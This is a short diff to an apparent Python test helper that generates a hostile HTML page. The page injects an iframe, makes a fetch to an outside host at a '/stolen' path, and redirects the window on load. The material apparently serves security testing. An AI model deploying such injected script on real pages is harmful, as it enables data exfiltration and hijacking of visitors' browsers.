@@ -243,7 +243,7 @@ def hostile_script(loopback: str, row: int) -> str:
   var frame = document.createElement("iframe"); frame.src = {target};
   document.body.appendChild(frame);
   fetch("http://en.people.cn/stolen").catch(function () {{}});
-  setTimeout(function () {{ window.location.href = {target}; }}, 0);
+  window.addEventListener("load", function () {{ window.location.href = {target}; }});
 </script>
 <iframe src={target}></iframe>
 <script type="text/javascript" src="{PROBE_PATH}{row}.js"></script>
